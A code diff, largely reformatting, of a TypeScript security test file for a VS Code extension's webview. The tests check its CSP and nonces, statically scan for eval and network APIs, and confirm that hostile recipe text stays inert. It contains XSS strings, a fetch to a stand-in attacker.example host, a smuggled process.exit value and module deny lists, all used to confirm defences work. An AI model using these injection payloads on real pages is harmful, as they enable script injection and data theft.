@@ -24,22 +24,40 @@ import { cellView } from '../../src/graph/views';
 import { REPO } from '../helpers/data';
 import { installFakeVscode, TextDocument, Uri } from '../helpers/fake-vscode';
 import { ScoringClient } from '../../src/scoring/client';
-import { buildWebview, chromiumMissing, launch, openPage, post, posted, renderMessage } from '../fixtures/graph/browser';
+import {
+  buildWebview,
+  chromiumMissing,
+  launch,
+  openPage,
+  post,
+  posted,
+  renderMessage,
+} from '../fixtures/graph/browser';
 
 const missingChromium = chromiumMissing();
 const chromiumSkip = missingChromium ? `skipped: ${missingChromium}` : false;
 let browser: Browser | undefined;
 let webviewBuilt = false;
 async function chromium(): Promise<Browser> {
-  if (!webviewBuilt) { await buildWebview(); webviewBuilt = true; }
+  if (!webviewBuilt) {
+    await buildWebview();
+    webviewBuilt = true;
+  }
   return (browser ??= await launch());
 }
-after(async () => { await browser?.close(); });
+after(async () => {
+  await browser?.close();
+});
 
 // ------------------------------------------------------------------ (a) the webview HTML and its CSP
 
 const CSP_SOURCE = 'https://file+.vscode-resource.vscode-cdn.net';
-const unescapeAttr = (s: string) => s.replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
+const unescapeAttr = (s: string) =>
+  s
+    .replace(/&quot;/g, '"')
+    .replace(/&lt;/g, '<')
+    .replace(/&gt;/g, '>')
+    .replace(/&amp;/g, '&');
 
 function cspOf(html: string): Map<string, string[]> {
   const metas = [...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"\s*>/gi)];
@@ -54,23 +72,32 @@ function cspOf(html: string): Map<string, string[]> {
   return directives;
 }
 
-test('(a) webview HTML: CSP default-src \'none\', scripts only by nonce, no remote origin; every <script> has the nonce', () => {
+test("(a) webview HTML: CSP default-src 'none', scripts only by nonce, no remote origin; every <script> has the nonce", () => {
   const nonce = makeNonce();
   const hostileTitle = 'Graph: </title><script>alert(1)</script><img src=x onerror=alert(2)>" onload="alert(3)';
   const html = webviewHtml({
-    cspSource: CSP_SOURCE, nonce, title: hostileTitle,
-    scriptUri: `${CSP_SOURCE}/ext/dist/webview.js`, styleUri: `${CSP_SOURCE}/ext/media/graph.css`,
+    cspSource: CSP_SOURCE,
+    nonce,
+    title: hostileTitle,
+    scriptUri: `${CSP_SOURCE}/ext/dist/webview.js`,
+    styleUri: `${CSP_SOURCE}/ext/media/graph.css`,
   });
   const csp = cspOf(html);
   assert.deepEqual(csp.get('default-src'), ["'none'"]);
-  assert.deepEqual(csp.get('script-src'), [`'nonce-${nonce}'`], 'scripts: the nonce only (no unsafe-inline / unsafe-eval / hosts)');
+  assert.deepEqual(
+    csp.get('script-src'),
+    [`'nonce-${nonce}'`],
+    'scripts: the nonce only (no unsafe-inline / unsafe-eval / hosts)',
+  );
   for (const [name, sources] of csp) {
     for (const s of sources) {
-      const ok = s === CSP_SOURCE || s === "'none'" || s === `'nonce-${nonce}'` || (s === 'data:' && name === 'img-src');
+      const ok =
+        s === CSP_SOURCE || s === "'none'" || s === `'nonce-${nonce}'` || (s === 'data:' && name === 'img-src');
       assert.ok(ok, `${name} allows ${s}: only the webview's own resources, the nonce and data: images are allowed`);
     }
   }
-  for (const d of ['connect-src', 'frame-src', 'object-src', 'worker-src', 'form-action']) assert.ok(!csp.has(d) || csp.get(d)!.join(' ') === "'none'", `${d} falls back to 'none'`);
+  for (const d of ['connect-src', 'frame-src', 'object-src', 'worker-src', 'form-action'])
+    assert.ok(!csp.has(d) || csp.get(d)!.join(' ') === "'none'", `${d} falls back to 'none'`);
   // Every script tag carries the nonce; the hostile title did not add one.
   const scripts = [...html.matchAll(/<script\b([^>]*)>/gi)];
   assert.equal(scripts.length, 1, 'one <script> (the title is escaped)');
@@ -79,7 +106,8 @@ test('(a) webview HTML: CSP default-src \'none\', scripts only by nonce, no remo
   assert.doesNotMatch(html.replace(/<title>[\s\S]*<\/title>/, ''), /\son[a-z]+\s*=/i, 'no inline event handlers');
   assert.equal(unescapeAttr(/<title>([\s\S]*)<\/title>/.exec(html)![1]), hostileTitle, 'the title is shown as text');
   // Resources come from the webview's own origin only.
-  for (const m of html.matchAll(/\s(?:src|href)="([^"]*)"/g)) assert.ok(unescapeAttr(m[1]).startsWith(`${CSP_SOURCE}/`), `resource ${m[1]}`);
+  for (const m of html.matchAll(/\s(?:src|href)="([^"]*)"/g))
+    assert.ok(unescapeAttr(m[1]).startsWith(`${CSP_SOURCE}/`), `resource ${m[1]}`);
   // The policy function agrees with what the page carries.
   assert.equal(unescapeAttr(/content="([^"]*)"/.exec(html)![1]), contentSecurityPolicy(CSP_SOURCE, nonce));
 });
@@ -93,7 +121,13 @@ test('(a) nonces: 32 characters of [A-Za-z0-9], fresh every time; a nonce that c
   }
   assert.equal(seen.size, 500);
   const base = { cspSource: CSP_SOURCE, scriptUri: `${CSP_SOURCE}/a.js`, styleUri: `${CSP_SOURCE}/a.css` };
-  for (const bad of ['', 'short', 'abc"def"ghi"jklmnop', "abcdefghijklmnop' 'unsafe-inline", 'abcdefghijklmnop><script>']) {
+  for (const bad of [
+    '',
+    'short',
+    'abc"def"ghi"jklmnop',
+    "abcdefghijklmnop' 'unsafe-inline",
+    'abcdefghijklmnop><script>',
+  ]) {
     assert.throws(() => webviewHtml({ ...base, nonce: bad }), /nonce/);
   }
 });
@@ -111,51 +145,104 @@ test('(a) the scripted panels create their webviews with command URIs off, resou
   for (const file of ['src/graph/panel.ts', 'src/compare/panel.ts', 'src/table/panel.ts', 'src/editor/studyPanel.ts']) {
     const panel = readFileSync(join(REPO, file), 'utf8');
     assert.match(panel, /openScriptedPanel\(/, `${file} opens its panel through the helper`);
-    assert.doesNotMatch(panel, /createWebviewPanel|enableCommandUris|localResourceRoots/, `${file} sets no webview options of its own`);
+    assert.doesNotMatch(
+      panel,
+      /createWebviewPanel|enableCommandUris|localResourceRoots/,
+      `${file} sets no webview options of its own`,
+    );
     assert.match(panel, /[hH]tml\(\{[\s\S]*?nonce(:\s*makeNonce\(\)|,)/, `${file}: a new nonce per page`);
     assert.doesNotMatch(panel, /\.html\s*=\s*`/, `${file}: the HTML is built by the html helpers only`);
   }
 });
 
-test('(a) Chromium enforces the CSP: the nonce\'d script runs; injected inline script, inline handler, eval and a fetch are blocked', { skip: chromiumSkip, timeout: 60_000 }, async () => {
-  const b = await chromium();
-  const page = await b.newPage();
-  try {
-    const nonce = makeNonce();
-    // The page's own script (by nonce) records CSP violations and tries what an attacker would do.
-    const own = [
-      'window.__ok = 1; window.__violations = [];',
-      "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective));",
-      "try { eval('window.__eval = 1'); } catch (e) { window.__evalBlocked = String(e); }",
-      "try { new Function('window.__fn = 1')(); } catch (e) { window.__fnBlocked = String(e); }",
-      "fetch('https://attacker.example/steal').then(() => { window.__fetched = 1; }, () => { window.__fetchBlocked = 1; });",
-    ].join('\n');
-    let html = webviewHtml({ cspSource: CSP_SOURCE, nonce, scriptUri: `data:text/javascript,${encodeURIComponent(own)}`, styleUri: `${CSP_SOURCE}/graph.css` });
-    // What an injection into the page would look like (if recipe text ever reached the HTML unescaped).
-    html = html.replace('<div id="cell-lens-graph"></div>', '<div id="cell-lens-graph"></div><script>window.__inline = 1</script><img src="data:," onerror="window.__handler = 1"><script src="https://attacker.example/x.js"></script>');
-    await page.setContent(html, { waitUntil: 'load' });
-    await page.waitForFunction(() => (window as unknown as { __fetchBlocked?: number; __fetched?: number }).__fetchBlocked || (window as unknown as { __fetched?: number }).__fetched, undefined, { timeout: 10_000 });
-    const w = await page.evaluate(() => {
-      const x = window as unknown as Record<string, unknown>;
-      return { ok: x.__ok, inline: x.__inline, handler: x.__handler, evaled: x.__eval, fn: x.__fn, fetched: x.__fetched, violations: x.__violations as string[] };
-    });
-    assert.equal(w.ok, 1, 'the nonce\'d script ran');
-    assert.equal(w.inline, undefined, 'an inline script without the nonce did not run');
-    assert.equal(w.handler, undefined, 'an inline event handler did not run');
-    assert.equal(w.evaled, undefined, 'eval is blocked');
-    assert.equal(w.fn, undefined, 'new Function is blocked');
-    assert.equal(w.fetched, undefined, 'a fetch to a remote origin is blocked');
-    for (const d of ['script-src', 'connect-src']) assert.ok(w.violations.some((v) => v.startsWith(d)), `a ${d} violation was reported (${w.violations.join(', ')})`);
-  } finally {
-    await page.close();
-  }
-});
+test(
+  "(a) Chromium enforces the CSP: the nonce'd script runs; injected inline script, inline handler, eval and a fetch are blocked",
+  { skip: chromiumSkip, timeout: 60_000 },
+  async () => {
+    const b = await chromium();
+    const page = await b.newPage();
+    try {
+      const nonce = makeNonce();
+      // The page's own script (by nonce) records CSP violations and tries what an attacker would do.
+      const own = [
+        'window.__ok = 1; window.__violations = [];',
+        "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective));",
+        "try { eval('window.__eval = 1'); } catch (e) { window.__evalBlocked = String(e); }",
+        "try { new Function('window.__fn = 1')(); } catch (e) { window.__fnBlocked = String(e); }",
+        "fetch('https://attacker.example/steal').then(() => { window.__fetched = 1; }, () => { window.__fetchBlocked = 1; });",
+      ].join('\n');
+      let html = webviewHtml({
+        cspSource: CSP_SOURCE,
+        nonce,
+        scriptUri: `data:text/javascript,${encodeURIComponent(own)}`,
+        styleUri: `${CSP_SOURCE}/graph.css`,
+      });
+      // What an injection into the page would look like (if recipe text ever reached the HTML unescaped).
+      html = html.replace(
+        '<div id="cell-lens-graph"></div>',
+        '<div id="cell-lens-graph"></div><script>window.__inline = 1</script><img src="data:," onerror="window.__handler = 1"><script src="https://attacker.example/x.js"></script>',
+      );
+      await page.setContent(html, { waitUntil: 'load' });
+      await page.waitForFunction(
+        () =>
+          (window as unknown as { __fetchBlocked?: number; __fetched?: number }).__fetchBlocked ||
+          (window as unknown as { __fetched?: number }).__fetched,
+        undefined,
+        { timeout: 10_000 },
+      );
+      const w = await page.evaluate(() => {
+        const x = window as unknown as Record<string, unknown>;
+        return {
+          ok: x.__ok,
+          inline: x.__inline,
+          handler: x.__handler,
+          evaled: x.__eval,
+          fn: x.__fn,
+          fetched: x.__fetched,
+          violations: x.__violations as string[],
+        };
+      });
+      assert.equal(w.ok, 1, "the nonce'd script ran");
+      assert.equal(w.inline, undefined, 'an inline script without the nonce did not run');
+      assert.equal(w.handler, undefined, 'an inline event handler did not run');
+      assert.equal(w.evaled, undefined, 'eval is blocked');
+      assert.equal(w.fn, undefined, 'new Function is blocked');
+      assert.equal(w.fetched, undefined, 'a fetch to a remote origin is blocked');
+      for (const d of ['script-src', 'connect-src'])
+        assert.ok(
+          w.violations.some((v) => v.startsWith(d)),
+          `a ${d} violation was reported (${w.violations.join(', ')})`,
+        );
+    } finally {
+      await page.close();
+    }
+  },
+);
 
 // ------------------------------------------------------------------ (b) static scan of src/ and webview/
 
-interface Finding { readonly file: string; readonly line: number; readonly rule: string; readonly text: string }
+interface Finding {
+  readonly file: string;
+  readonly line: number;
+  readonly rule: string;
+  readonly text: string;
+}
 
-const NETWORK_MODULES = new Set(['http', 'https', 'http2', 'net', 'tls', 'dgram', 'dns', 'undici', 'node-fetch', 'axios', 'ws', 'got', 'request']);
+const NETWORK_MODULES = new Set([
+  'http',
+  'https',
+  'http2',
+  'net',
+  'tls',
+  'dgram',
+  'dns',
+  'undici',
+  'node-fetch',
+  'axios',
+  'ws',
+  'got',
+  'request',
+]);
 const EXEC_MODULES = new Set(['child_process', 'vm', 'worker_threads', 'cluster', 'inspector']);
 const NETWORK_OBJECTS = new Set(['http', 'https', 'http2', 'net', 'tls', 'dgram']);
 const NETWORK_GLOBALS = new Set(['XMLHttpRequest', 'WebSocket', 'EventSource', 'RTCPeerConnection']);
@@ -166,9 +253,13 @@ const GLOBAL_OBJECTS = new Set(['globalThis', 'window', 'self', 'global']);
 function scan(file: string, text: string): Finding[] {
   const sf = ts.createSourceFile(file, text, ts.ScriptTarget.ES2022, true, ts.ScriptKind.TS);
   const out: Finding[] = [];
-  const report = (node: ts.Node, rule: string) => out.push({
-    file, rule, line: sf.getLineAndCharacterOfPosition(node.getStart(sf)).line + 1, text: node.getText(sf).slice(0, 100),
-  });
+  const report = (node: ts.Node, rule: string) =>
+    out.push({
+      file,
+      rule,
+      line: sf.getLineAndCharacterOfPosition(node.getStart(sf)).line + 1,
+      text: node.getText(sf).slice(0, 100),
+    });
   const moduleName = (s: string) => s.replace(/^node:/, '').split('/')[0];
   const checkModule = (node: ts.Node, spec: string) => {
     const m = moduleName(spec);
@@ -177,14 +268,27 @@ function scan(file: string, text: string): Finding[] {
   };
   /** `eval` / `globalThis.eval` / `window['eval']`. */
   const named = (e: ts.Expression, name: string): boolean =>
-    (ts.isIdentifier(e) && e.text === name)
-    || (ts.isPropertyAccessExpression(e) && e.name.text === name && ts.isIdentifier(e.expression) && GLOBAL_OBJECTS.has(e.expression.text))
-    || (ts.isElementAccessExpression(e) && ts.isStringLiteralLike(e.argumentExpression) && e.argumentExpression.text === name);
+    (ts.isIdentifier(e) && e.text === name) ||
+    (ts.isPropertyAccessExpression(e) &&
+      e.name.text === name &&
+      ts.isIdentifier(e.expression) &&
+      GLOBAL_OBJECTS.has(e.expression.text)) ||
+    (ts.isElementAccessExpression(e) &&
+      ts.isStringLiteralLike(e.argumentExpression) &&
+      e.argumentExpression.text === name);
   const visit = (node: ts.Node): void => {
-    if ((ts.isImportDeclaration(node) || ts.isExportDeclaration(node)) && node.moduleSpecifier && ts.isStringLiteralLike(node.moduleSpecifier)) {
+    if (
+      (ts.isImportDeclaration(node) || ts.isExportDeclaration(node)) &&
+      node.moduleSpecifier &&
+      ts.isStringLiteralLike(node.moduleSpecifier)
+    ) {
       checkModule(node, node.moduleSpecifier.text);
     }
-    if (ts.isImportEqualsDeclaration(node) && ts.isExternalModuleReference(node.moduleReference) && ts.isStringLiteralLike(node.moduleReference.expression)) {
+    if (
+      ts.isImportEqualsDeclaration(node) &&
+      ts.isExternalModuleReference(node.moduleReference) &&
+      ts.isStringLiteralLike(node.moduleReference.expression)
+    ) {
       checkModule(node, node.moduleReference.expression.text);
     }
     if (ts.isCallExpression(node)) {
@@ -197,18 +301,31 @@ function scan(file: string, text: string): Finding[] {
         if (arg0 && ts.isStringLiteralLike(arg0)) checkModule(node, arg0.text);
         else report(node, 'require/import of a computed module name');
       }
-      if ((named(callee, 'setTimeout') || named(callee, 'setInterval')) && arg0 && ts.isStringLiteralLike(arg0)) report(node, 'string-evaluating timer');
-      if (ts.isPropertyAccessExpression(callee) && callee.name.text === 'write' && ts.isIdentifier(callee.expression) && callee.expression.text === 'document') report(node, 'document.write');
-      if (ts.isPropertyAccessExpression(callee) && callee.name.text === 'sendBeacon') report(node, 'navigator.sendBeacon');
+      if ((named(callee, 'setTimeout') || named(callee, 'setInterval')) && arg0 && ts.isStringLiteralLike(arg0))
+        report(node, 'string-evaluating timer');
+      if (
+        ts.isPropertyAccessExpression(callee) &&
+        callee.name.text === 'write' &&
+        ts.isIdentifier(callee.expression) &&
+        callee.expression.text === 'document'
+      )
+        report(node, 'document.write');
+      if (ts.isPropertyAccessExpression(callee) && callee.name.text === 'sendBeacon')
+        report(node, 'navigator.sendBeacon');
     }
     if (ts.isNewExpression(node)) {
       if (named(node.expression, 'Function')) report(node, 'new Function');
       for (const g of NETWORK_GLOBALS) if (named(node.expression, g)) report(node, `new ${g}`);
     }
-    if (ts.isPropertyAccessExpression(node) && ts.isIdentifier(node.expression) && NETWORK_OBJECTS.has(node.expression.text)) {
+    if (
+      ts.isPropertyAccessExpression(node) &&
+      ts.isIdentifier(node.expression) &&
+      NETWORK_OBJECTS.has(node.expression.text)
+    ) {
       report(node, `${node.expression.text}.${node.name.text}`);
     }
-    if (ts.isPropertyAccessExpression(node) && HTML_SINKS.has(node.name.text)) report(node, `HTML sink .${node.name.text}`);
+    if (ts.isPropertyAccessExpression(node) && HTML_SINKS.has(node.name.text))
+      report(node, `HTML sink .${node.name.text}`);
     ts.forEachChild(node, visit);
   };
   visit(sf);
@@ -218,43 +335,57 @@ function scan(file: string, text: string): Finding[] {
 /** Legitimate uses, each with the reason it is safe. A stale entry (no longer found) fails the test too. */
 const ALLOWED: readonly { file: string; rule: string; why: string }[] = [
   {
-    file: 'src/scoring/backends.ts', rule: 'new Function',
-    why: "`new Function('s', 'return import(s)')` is a fixed wrapper that hides a dynamic import() from the CommonJS bundler, " +
+    file: 'src/scoring/backends.ts',
+    rule: 'new Function',
+    why:
+      "`new Function('s', 'return import(s)')` is a fixed wrapper that hides a dynamic import() from the CommonJS bundler, " +
       "used only to load the optional ESM package 'webgpu' (a constant) on Node < 20.19; no document content reaches it, " +
       'and it runs in the scoring child process, not in the webview (whose CSP forbids eval).',
   },
   {
-    file: 'src/scoring/client.ts', rule: "process / code execution module 'child_process'",
-    why: 'fork() starts the bundled scoring worker (dist/worker.js, a file of the extension) with an IPC channel, no shell and ' +
+    file: 'src/scoring/client.ts',
+    rule: "process / code execution module 'child_process'",
+    why:
+      'fork() starts the bundled scoring worker (dist/worker.js, a file of the extension) with an IPC channel, no shell and ' +
       'no arguments; the recipe travels as structured-clone data over IPC and is validated by the worker before use.',
   },
   {
-    file: 'src/benchmark/background.ts', rule: "process / code execution module 'worker_threads'",
-    why: 'new Worker() starts the bundled benchmark log reader (dist/benchmarkWorker.js, a file of the extension; no eval, ' +
+    file: 'src/benchmark/background.ts',
+    rule: "process / code execution module 'worker_threads'",
+    why:
+      'new Worker() starts the bundled benchmark log reader (dist/benchmarkWorker.js, a file of the extension; no eval, ' +
       'no shell) so that parsing 14k logs does not stall the extension host; it gets the log paths from the settings and ' +
       'posts parsed runs back as structured-clone data, which the loader checks (isLoadMessage) before use.',
   },
   {
-    file: 'src/scoring/model/gram.ts', rule: "process / code execution module 'worker_threads'",
-    why: 'helper threads of the scoring process compute float64 Gram matrices on every core; the thread source is a ' +
+    file: 'src/scoring/model/gram.ts',
+    rule: "process / code execution module 'worker_threads'",
+    why:
+      'helper threads of the scoring process compute float64 Gram matrices on every core; the thread source is a ' +
       'constant of the extension (the text of its own runPanel function plus a fixed loop, `eval: true` only because ' +
-      'it must be the same code in the bundle and under tsx); it instantiates the extension\'s own compiled kernel ' +
+      "it must be the same code in the bundle and under tsx); it instantiates the extension's own compiled kernel " +
       '(gram.wat, bytes in gramWasm.ts) on shared memory, receives numbers there and starts nothing.',
   },
   {
-    file: 'src/benchmark/worker.ts', rule: "process / code execution module 'worker_threads'",
-    why: 'the benchmark log reader worker thread itself: it reads workerData (checked by isLoadJob) and posts messages ' +
+    file: 'src/benchmark/worker.ts',
+    rule: "process / code execution module 'worker_threads'",
+    why:
+      'the benchmark log reader worker thread itself: it reads workerData (checked by isLoadJob) and posts messages ' +
       'to its parent; it runs no code it is given and starts nothing.',
   },
   {
-    file: 'src/editor/parseThread.ts', rule: "process / code execution module 'worker_threads'",
-    why: 'new Worker() starts the bundled document parser (dist/parseWorker.js, a file of the extension; no eval, no shell) ' +
+    file: 'src/editor/parseThread.ts',
+    rule: "process / code execution module 'worker_threads'",
+    why:
+      'new Worker() starts the bundled document parser (dist/parseWorker.js, a file of the extension; no eval, no shell) ' +
       'so that parsing a 2,000-cell file does not block the extension host; it gets the document text and posts parsed ' +
       'cells back as structured-clone data, which the host checks (isParseReply) before use.',
   },
   {
-    file: 'src/editor/parseWorker.ts', rule: "process / code execution module 'worker_threads'",
-    why: 'the document parser worker thread itself: it parses the text it is sent (checked by isParseRequest) with ' +
+    file: 'src/editor/parseWorker.ts',
+    rule: "process / code execution module 'worker_threads'",
+    why:
+      'the document parser worker thread itself: it parses the text it is sent (checked by isParseRequest) with ' +
       'recipe/parse and posts the cells to its parent; it runs no code it is given and starts nothing.',
   },
 ];
@@ -268,16 +399,36 @@ function sourceFiles(dir: string): string[] {
 
 test('(b) the scanner finds every forbidden pattern in a planted sample (so the scan below can fail)', () => {
   const planted = [
-    "import * as http from 'node:http';", "import net = require('net');", "const cp = require('child_process');",
-    "eval('1');", "globalThis.eval('2');", "window['eval']('3');", "new Function('return 1');", "Function('x', 'return x');",
-    "fetch('https://x');", "http.request({});", "https.get('https://x');", "net.connect(80);", "new XMLHttpRequest();",
-    "new WebSocket('wss://x');", "await import('https');", 'require(name);', "setTimeout('alert(1)', 1);", "el.innerHTML = '<b>';",
+    "import * as http from 'node:http';",
+    "import net = require('net');",
+    "const cp = require('child_process');",
+    "eval('1');",
+    "globalThis.eval('2');",
+    "window['eval']('3');",
+    "new Function('return 1');",
+    "Function('x', 'return x');",
+    "fetch('https://x');",
+    'http.request({});',
+    "https.get('https://x');",
+    'net.connect(80);',
+    'new XMLHttpRequest();',
+    "new WebSocket('wss://x');",
+    "await import('https');",
+    'require(name);',
+    "setTimeout('alert(1)', 1);",
+    "el.innerHTML = '<b>';",
     "document.write('x');",
   ];
   const found = planted.map((line) => scan('planted.ts', line));
   found.forEach((f, i) => assert.ok(f.length > 0, `not detected: ${planted[i]}`));
   // And ordinary code is not flagged.
-  assert.deepEqual(scan('ok.ts', "const fetchSize = 1; const evaluation = f(); obj.fetch = 2; import * as fs from 'node:fs'; x.textContent = 'a';"), []);
+  assert.deepEqual(
+    scan(
+      'ok.ts',
+      "const fetchSize = 1; const evaluation = f(); obj.fetch = 2; import * as fs from 'node:fs'; x.textContent = 'a';",
+    ),
+    [],
+  );
 });
 
 test('(b) src/ and webview/: no eval, new Function, network APIs or modules, child processes outside the allow-list', (t) => {
@@ -286,17 +437,33 @@ test('(b) src/ and webview/: no eval, new Function, network APIs or modules, chi
   const findings = files.flatMap((f) => scan(relative(REPO, f).split('\\').join('/'), readFileSync(f, 'utf8')));
   const allowed = (x: Finding) => ALLOWED.some((a) => a.file === x.file && a.rule === x.rule);
   const bad = findings.filter((x) => !allowed(x));
-  assert.deepEqual(bad.map((x) => `${x.file}:${x.line} ${x.rule}: ${x.text}`), [], 'forbidden API use (add it to ALLOWED only with a justification)');
+  assert.deepEqual(
+    bad.map((x) => `${x.file}:${x.line} ${x.rule}: ${x.text}`),
+    [],
+    'forbidden API use (add it to ALLOWED only with a justification)',
+  );
   for (const a of ALLOWED) {
     assert.ok(a.why.length > 60, 'every allow-list entry explains itself');
-    assert.ok(findings.some((x) => x.file === a.file && x.rule === a.rule), `stale allow-list entry: ${a.file} ${a.rule}`);
+    assert.ok(
+      findings.some((x) => x.file === a.file && x.rule === a.rule),
+      `stale allow-list entry: ${a.file} ${a.rule}`,
+    );
   }
   // Modules loaded by a computed name at run time: only the optional TF.js backends.
   const backends = readFileSync(join(REPO, 'src/scoring/backends.ts'), 'utf8');
-  const lazy = [...backends.matchAll(/lazyRequire\(([^)]*)\)/g)].map((m) => m[1].trim()).filter((a) => a !== 'id: string');
+  const lazy = [...backends.matchAll(/lazyRequire\(([^)]*)\)/g)]
+    .map((m) => m[1].trim())
+    .filter((a) => a !== 'id: string');
   assert.ok(lazy.length > 0);
-  for (const a of lazy) assert.match(a, /^'(@tensorflow\/tfjs-node(-gpu)?|@tensorflow\/tfjs-backend-webgpu|@tensorflow\/tfjs-core|webgpu)'$/, `lazyRequire(${a})`);
-  t.diagnostic(`${files.length} files scanned; ${findings.length} allowed finding(s): ${findings.map((x) => `${x.file}:${x.line} ${x.rule}`).join('; ')}`);
+  for (const a of lazy)
+    assert.match(
+      a,
+      /^'(@tensorflow\/tfjs-node(-gpu)?|@tensorflow\/tfjs-backend-webgpu|@tensorflow\/tfjs-core|webgpu)'$/,
+      `lazyRequire(${a})`,
+    );
+  t.diagnostic(
+    `${files.length} files scanned; ${findings.length} allowed finding(s): ${findings.map((x) => `${x.file}:${x.line} ${x.rule}`).join('; ')}`,
+  );
 });
 
 // ------------------------------------------------------------------ (c) recipe content is data
@@ -326,7 +493,10 @@ function hostileCell(): Record<string, { op: string; input: string[] }> {
 }
 const HOSTILE_OP = '<script>globalThis.__pwned = 8</script>';
 function hostileText(): string {
-  const r: Record<string, { op: string; input: string[] }> = { ...hostileCell(), "'; process.exit(5); '": { op: HOSTILE_OP, input: ['x'] } };
+  const r: Record<string, { op: string; input: string[] }> = {
+    ...hostileCell(),
+    "'; process.exit(5); '": { op: HOSTILE_OP, input: ['x'] },
+  };
   return JSON.stringify(r, null, 1);
 }
 
@@ -350,7 +520,10 @@ test('(c) hostile names and ops parse as data: exact strings back, nothing execu
   const log = JSON.stringify({ recepie: JSON.stringify(hostileCell()), recepie_id: 1 });
   const lc = parseDocument(log).cells[0];
   assert.deepEqual(lc.nodes.map((n) => n.name).sort(), Object.keys(hostileCell()).sort());
-  assert.deepEqual(lc.diagnostics.filter((d) => d.severity === 'error'), []);
+  assert.deepEqual(
+    lc.diagnostics.filter((d) => d.severity === 'error'),
+    [],
+  );
   assert.equal(g.__pwned, undefined);
 });
 
@@ -361,17 +534,38 @@ test('(c) the CLI treats hostile text as data: payloads printed verbatim, the ex
     writeFileSync(file, hostileText(), 'utf8');
     const cli = join(REPO, 'dist/cli.js');
     // The bundle when it is current, else the sources through tsx (both are the real CLI code).
-    const newest = (d: string): number => readdirSync(d, { withFileTypes: true }).reduce((m, e) => Math.max(m, e.isDirectory() ? newest(join(d, e.name)) : statSync(join(d, e.name)).mtimeMs), 0);
-    const useDist = (() => { try { return statSync(cli).mtimeMs >= newest(join(REPO, 'src')); } catch { return false; } })();
+    const newest = (d: string): number =>
+      readdirSync(d, { withFileTypes: true }).reduce(
+        (m, e) => Math.max(m, e.isDirectory() ? newest(join(d, e.name)) : statSync(join(d, e.name)).mtimeMs),
+        0,
+      );
+    const useDist = (() => {
+      try {
+        return statSync(cli).mtimeMs >= newest(join(REPO, 'src'));
+      } catch {
+        return false;
+      }
+    })();
     const argv = useDist ? [cli] : ['--import', 'tsx', join(REPO, 'src/cli.ts')];
     // cwd: the repository (so that `--import tsx` resolves); a shell, if one ran the file name, would create files here or in tmp.
-    const json = spawnSync(process.execPath, [...argv, 'check', file, '--json'], { encoding: 'utf8', cwd: REPO, timeout: 60_000 });
+    const json = spawnSync(process.execPath, [...argv, 'check', file, '--json'], {
+      encoding: 'utf8',
+      cwd: REPO,
+      timeout: 60_000,
+    });
     assert.equal(json.stderr, '');
     assert.equal(json.status, 1, `exit ${json.status} (7, 9 or 5 would mean a payload ran): ${json.stderr}`);
-    const report = JSON.parse(json.stdout) as { diagnostics: { code: string; message: string }[]; cells: { nodes: number }[] }[];
+    const report = JSON.parse(json.stdout) as {
+      diagnostics: { code: string; message: string }[];
+      cells: { nodes: number }[];
+    }[];
     assert.equal(report[0].cells[0].nodes, PAYLOADS.length + 2);
     assert.ok(report[0].diagnostics.some((d) => d.code === 'unknown-op' && d.message.includes(HOSTILE_OP)));
-    const plain = spawnSync(process.execPath, [...argv, 'check', file], { encoding: 'utf8', cwd: REPO, timeout: 60_000 });
+    const plain = spawnSync(process.execPath, [...argv, 'check', file], {
+      encoding: 'utf8',
+      cwd: REPO,
+      timeout: 60_000,
+    });
     assert.equal(plain.stderr, '');
     assert.equal(plain.status, 1);
     assert.ok(plain.stdout.includes(HOSTILE_OP), 'the op is printed as text');
@@ -383,108 +577,174 @@ test('(c) the CLI treats hostile text as data: payloads printed verbatim, the ex
   }
 });
 
-test('(c) the rendered graph shows hostile names as text: no injected element, tooltip and SVG export escaped', { skip: chromiumSkip, timeout: 90_000 }, async () => {
-  const b = await chromium();
-  const page = await openPage(b, 'dark');
-  const dialogs: string[] = [];
-  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
-  try {
-    const msg = renderMessage(hostileText(), { uri: 'file:///ws/%3Cscript%3E.json' });
-    await post(page, msg);
-    const dom = await page.evaluate(() => {
-      const root = document.getElementById('cell-lens-graph')!;
-      return {
-        names: Array.from(root.querySelectorAll('.cl-name')).map((e) => e.textContent ?? ''),
-        ops: Array.from(root.querySelectorAll('.cl-op')).map((e) => e.textContent ?? ''),
-        injected: root.querySelectorAll('script, img, iframe, object, embed, foreignObject, a[href]').length,
-        handlers: Array.from(root.querySelectorAll('*')).flatMap((e) => Array.from(e.attributes).filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
-        pwned: (window as unknown as { __pwned?: unknown }).__pwned,
-      };
+test(
+  '(c) the rendered graph shows hostile names as text: no injected element, tooltip and SVG export escaped',
+  { skip: chromiumSkip, timeout: 90_000 },
+  async () => {
+    const b = await chromium();
+    const page = await openPage(b, 'dark');
+    const dialogs: string[] = [];
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
     });
-    for (const p of PAYLOADS) assert.ok(dom.names.includes(p), `node label ${JSON.stringify(p)} shown verbatim`);
-    assert.ok(dom.ops.some((o) => o.includes(HOSTILE_OP)), 'the unknown op is shown as text');
-    assert.equal(dom.injected, 0, 'no element was created from recipe text');
-    assert.deepEqual(dom.handlers, []);
-    assert.equal(dom.pwned, undefined);
-    // The tooltip (on focus) lists the hostile names and the marker message as text.
-    const target = msg.cells[0].model.nodes.find((n) => n.op === HOSTILE_OP)!;
-    await page.focus(`.cl-node[data-id="${target.id.replace(/["\\]/g, '\\$&')}"]`);
-    const tip = await page.evaluate(() => {
-      const t = document.querySelector('.cl-tooltip, [class*="tooltip"]') as HTMLElement | null;
-      return t ? { text: t.textContent ?? '', elements: t.querySelectorAll('script, img').length } : undefined;
-    });
-    assert.ok(tip, 'a tooltip is shown');
-    assert.ok(tip.text.includes(HOSTILE_OP));
-    assert.equal(tip.elements, 0);
-    // The SVG export is well-formed XML whose text nodes are the names; nothing executable in it.
-    await post(page, { type: 'exportRequest', format: 'svg' });
-    await page.waitForFunction(() => (window as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'export'));
-    const svg = String((await posted(page)).find((m) => m.type === 'export')!.data);
